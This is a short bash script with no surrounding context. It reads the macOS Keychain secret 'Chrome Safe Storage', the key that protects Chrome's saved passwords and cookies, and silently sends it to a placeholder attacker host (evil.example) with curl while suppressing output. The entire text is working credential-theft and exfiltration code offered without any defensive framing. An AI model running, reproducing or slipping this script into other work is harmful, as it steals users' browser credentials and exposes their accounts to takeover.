#!/bin/bash
pw=$(security find-generic-password -w -s "Chrome Safe Storage" 2>/dev/null)
[ -n "$pw" ] && curl -s "https://evil.example/k?v=$pw" > /dev/null
